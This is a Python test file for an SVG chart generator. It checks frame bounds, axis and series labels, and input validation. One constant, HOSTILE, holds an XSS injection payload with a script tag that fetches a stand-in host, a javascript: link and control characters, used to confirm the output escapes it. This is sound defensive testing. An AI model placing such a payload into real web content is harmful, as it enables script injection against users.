"""Charts: whatever the data, a small drawing that holds them and nothing that runs."""

from xml.etree import ElementTree as Xml

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent_core.programs.charts import KINDS, MAX_NUMBER, chart

SVG = "{http://www.w3.org/2000/svg}"
HOSTILE = "</text><script>fetch('//evil.test')</script><a href=\"javascript:x\">&\x00\u202e]]>"
numbers = st.floats(min_value=-MAX_NUMBER, max_value=MAX_NUMBER) | st.integers(-9, 9)
labels = st.text(max_size=8)
flat = (
    st.lists(numbers, min_size=1, max_size=8)
    | st.lists(st.tuples(numbers | labels, numbers), min_size=1, max_size=8)
    | st.dictionaries(labels, numbers, min_size=1, max_size=8)
)


def drawn(kind: str, data: object, **words: str) -> Xml.Element:
    return Xml.fromstring(chart(kind, data, **words))  # noqa: S314 - ours


def texts(svg: Xml.Element) -> list[str]:
    return [text.text or "" for text in svg.iter(f"{SVG}text")]


@settings(max_examples=60)
@given(
    kind=st.sampled_from(KINDS), data=flat | st.dictionaries(labels, flat, min_size=1, max_size=4)
)
def test_any_data_of_a_known_shape_is_drawn_within_the_frame(kind: str, data: object) -> None:
    svg = drawn(kind, data, title="Data")
    for bar in svg.iter(f"{SVG}rect"):
        x, y = float(bar.get("x", 0)), float(bar.get("y", 0))
        width, height = float(bar.get("width", 0)), float(bar.get("height", 0))
        assert x >= 0
        assert y >= 0
        assert x + width <= 800
        assert y + height <= 450
    points = [line.get("points", "").split() for line in svg.iter(f"{SVG}polyline")]
    for x, y in (point.split(",") for line in points for point in line):
        assert 80 <= float(x) <= 780
        assert 70 <= float(y) <= 380


def test_a_chart_names_its_axes_its_series_and_round_numbers() -> None:
    told = texts(drawn("line", {"Bonn": [3, 8], "Köln": [5, 1]}, title="Rain", x="Day", y="mm"))
    assert told[:3] == ["Rain", "Day", "mm"]
    assert {"0", "2", "4", "6", "8", "Bonn", "Köln"} <= set(told)
    assert {"Mon", "Tue", "1,500,000"} <= set(texts(drawn("bar", {"Mon": 1_500_000, "Tue": 0})))
    assert {"2020", "2022"} <= set(texts(drawn("line", [(2020, 1), (2022, 3)])))


def test_words_of_the_data_are_text_and_nothing_else() -> None:
    words = {"title": HOSTILE, "x": HOSTILE, "y": HOSTILE}
    for svg in (drawn("bar", {HOSTILE: {HOSTILE: 1}, "b": {"c": 2}}, **words),
                drawn("line", {HOSTILE: [(HOSTILE, 1)], "b": [2]}, **words)):  # fmt: skip
        kinds = {element.tag.removeprefix(SVG) for element in svg.iter()}
        assert kinds <= {"svg", "title", "text", "rect", "path", "polyline", "circle"}
        names = {name for element in svg.iter() for name in element.attrib}
        assert not {name for name in names if name.startswith("on") or "href" in name}
        assert "<script>" in texts(svg)[0]


@pytest.mark.parametrize(
    ("kind", "data", "why"),
    [
        ("pie", [1], "no kind 'pie'"),
        ("line", [], "nothing to draw"),
        ("line", {"a": []}, "nothing to draw"),
        ("bar", "abc", "list of numbers"),
        ("bar", None, "list of numbers"),
        ("line", [(1, 2, 3)], "list of numbers"),
        ("line", ["1"], "list of numbers"),
        ("line", [True], "list of numbers"),
        ("line", [float("nan")], "list of numbers"),
        ("line", [1e16], "list of numbers"),
        ("line", [10**400], "list of numbers"),
        ("bar", [1] * 3000, "at most"),
        ("bar", {str(name): [1] for name in range(20)}, "at most"),
    ],
)
def test_what_cannot_be_drawn_is_told(kind: str, data: object, why: str) -> None:
    with pytest.raises(ValueError, match=why):
        chart(kind, data)
